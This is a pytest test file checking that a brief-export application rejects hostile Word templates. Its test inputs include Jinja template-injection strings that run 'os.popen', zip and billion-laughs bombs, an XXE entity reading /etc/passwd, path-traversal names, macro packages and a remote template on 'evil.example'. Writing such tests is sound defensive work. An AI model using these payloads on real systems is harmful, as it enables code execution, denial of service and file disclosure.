"""Hostile templates: each is refused with a clear message, and the application keeps running.

The crafted files are written from code into tmp_path; none is committed.
"""

from __future__ import annotations

import sys
import zipfile

import pytest
from export_helpers import craft_template, make_brief, paragraphs, with_title_tag

from briefcomposer.core.errors import TemplateError
from briefcomposer.export import docx_writer
from briefcomposer.export.check import check_template
from briefcomposer.export.docx_writer import export_docx


def _refused(template, tmp_path, match: str) -> str:
    target = tmp_path / "out.docx"
    with pytest.raises(TemplateError, match=match) as info:
        export_docx(make_brief(), target, template=template)
    assert not target.exists()
    message = str(info.value)
    assert "\n" not in message
    return message


# ---------------------------------------------------------------- tags


@pytest.mark.parametrize(
    "tag",
    [
        "{{ title.__class__.__mro__ }}",
        "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
        "{{ title['__class__'] }}",
        "{{ self._TemplateReference__context }}",
        "{{ lipsum.__globals__['os'].popen('touch PWNED') }}",
    ],
)
def test_tags_reaching_for_python_internals_are_refused(tmp_path, monkeypatch, tag):
    monkeypatch.chdir(tmp_path)
    template = with_title_tag(tmp_path / "t.docx", tag)
    message = _refused(template, tmp_path, "Python internals|does not provide")
    assert "word/document.xml, paragraph" in message
    assert not (tmp_path / "PWNED").exists()


def test_attribute_built_at_run_time_is_stopped_by_the_sandbox(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    template = with_title_tag(tmp_path / "t.docx", "{{ title[title[:0] ~ '__cl' ~ 'ass__'] }}")
    _refused(template, tmp_path, "unsafe")


@pytest.mark.parametrize(
    ("tag", "match"),
    [
        ("{{ title|attr('__class__') }}", "filter 'attr'"),
        ("{{ title|safe }}", "filter 'safe'"),
        ("{% include 'x' %}", "include or import"),
    ],
)
def test_dangerous_filters_and_includes_are_refused(tmp_path, tag, match):
    _refused(with_title_tag(tmp_path / "t.docx", tag), tmp_path, match)


def test_loop_bomb_is_stopped_by_the_time_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(docx_writer, "RENDER_TIMEOUT", 3.0)
    bomb = "{% for i in range(100000) %}{% for j in range(100000) %}{{ i }}{% endfor %}{% endfor %}"
    _refused(with_title_tag(tmp_path / "t.docx", bomb), tmp_path, "longer than 3 seconds|memory")
    # the application goes on: the next export starts a fresh render process
    out = export_docx(make_brief(), tmp_path / "after.docx")
    assert paragraphs(out)[1] == ("Title", "Russia\u2013NATO dialogue")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS is enforced on Linux only")
@pytest.mark.parametrize(("size", "match"), [("4000000000", "more memory"), ("20000000", "far too large")])
def test_huge_strings_are_refused(tmp_path, size, match):
    _refused(with_title_tag(tmp_path / "t.docx", f"{{{{ 'x' * {size} }}}}"), tmp_path, match)


def test_a_crashed_render_process_is_replaced(tmp_path):
    export_docx(make_brief(), tmp_path / "one.docx")
    docx_writer._worker.process.kill()
    docx_writer._worker.process.join()
    out = export_docx(make_brief(), tmp_path / "two.docx")
    assert out.is_file()


def test_undefined_variable_is_refused(tmp_path):
    _refused(with_title_tag(tmp_path / "t.docx", "{{ minister.name }}"), tmp_path, "'minister'")


# ---------------------------------------------------------------- packages


def _macro_parts() -> dict:
    return {
        "[Content_Types].xml": lambda b: b.replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ).replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    }


def test_docm_is_refused(tmp_path):
    docm = craft_template(tmp_path / "t.docm", replace=_macro_parts(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    _refused(docm, tmp_path, "macro-enabled")


def test_macros_in_a_renamed_docx_are_refused(tmp_path):
    renamed = craft_template(tmp_path / "t.docx", replace=_macro_parts(), add={"word/vbaProject.bin": b"\xd0\xcf"})
    _refused(renamed, tmp_path, "macros")


def test_zip_bomb_is_refused_before_inflating(tmp_path):
    bomb = tmp_path / "bomb.docx"
    craft_template(bomb)
    with (
        zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("word/media/zeros.xml", "w") as fh,
    ):
        for _ in range(60):
            fh.write(b"\0" * (1 << 20))
    _refused(bomb, tmp_path, "zip bomb")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10))
    + b"]>"
)


def test_billion_laughs_is_refused(tmp_path):
    def inject(blob: bytes) -> bytes:
        body = blob.split(b"?>", 1)[1]
        return BILLION_LAUGHS + body.replace(b"{{ title }}", b"&lol9;")

    _refused(craft_template(tmp_path / "t.docx", replace={"word/document.xml": inject}), tmp_path, "DTD or entities")


def test_external_entity_is_refused(tmp_path):
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

    def inject(blob: bytes) -> bytes:
        return xxe + blob.split(b"?>", 1)[1].replace(b"{{ title }}", b"&e;")

    _refused(craft_template(tmp_path / "t.docx", replace={"word/styles.xml": inject}), tmp_path, "DTD")


def test_malformed_xml_is_refused(tmp_path):
    broken = craft_template(tmp_path / "t.docx", replace={"word/document.xml": lambda b: b[: len(b) // 2]})
    _refused(broken, tmp_path, r"word/document.xml line \d+: malformed XML")


@pytest.mark.parametrize("name", ["../evil.xml", "/abs.xml", "word\\..\\evil.xml", "C:/evil.xml"])
def test_path_traversal_names_are_refused(tmp_path, name):
    _refused(craft_template(tmp_path / "t.docx", add={name: b"<x/>"}), tmp_path, "unsafe part name")


def test_remote_attached_template_is_refused(tmp_path):
    rels = (
        b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    template = craft_template(
        tmp_path / "t.docx", replace={"word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", rels)}
    )
    _refused(template, tmp_path, "external attachedTemplate")


def test_not_a_zip_is_refused(tmp_path):
    fake = tmp_path / "t.docx"
    fake.write_bytes(b"PK\x03\x04 but not really a zip")
    _refused(fake, tmp_path, "not a Word .docx file")


def test_check_template_reports_hostile_packages(tmp_path):
    docm = craft_template(tmp_path / "t.docm", replace=_macro_parts(), add={"word/vbaProject.bin": b"x"})
    (problem,) = check_template(docm)
    assert problem.severity == "error"
    assert "macro-enabled" in problem.message


def test_deeply_nested_tags_are_refused_and_checked_safely(tmp_path):
    template = with_title_tag(tmp_path / "t.docx", "{{ " + "(" * 5000 + "title" + ")" * 5000 + " }}")
    _refused(template, tmp_path, "nest too deeply")
    (problem,) = check_template(template)
    assert "nest too deeply" in problem.message


def test_check_template_is_bounded_too(tmp_path, monkeypatch):
    """Reading a template's tags runs in the render process: a parser hang cannot freeze the app."""
    docx_writer.shutdown_worker()  # a cold worker cannot answer within the limit; a warm one sometimes could
    monkeypatch.setattr(docx_writer, "RENDER_TIMEOUT", 0.001)
    (problem,) = check_template(with_title_tag(tmp_path / "t.docx", "{{ title }}"))
    assert "took longer than" in problem.message


def test_render_child_runs_from_the_command_line(tmp_path):
    """``python -m briefcomposer.export.render_child`` renders once, for debugging a template."""
    import json
    import subprocess

    from export_helpers import built_in_template

    from briefcomposer.export.context import build_context

    context = tmp_path / "context.json"
    context.write_text(json.dumps(build_context(make_brief())), "utf-8")
    out = tmp_path / "out.docx"
    command = [
        sys.executable,
        "-m",
        "briefcomposer.export.render_child",
        str(built_in_template()),
        str(context),
        str(out),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert ("Title", "Russia\u2013NATO dialogue") in paragraphs(out)
    bad = with_title_tag(tmp_path / "bad.docx", "{{ title.__class__ }}")
    command[3] = str(bad)
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1
    assert "Python internals" in done.stderr
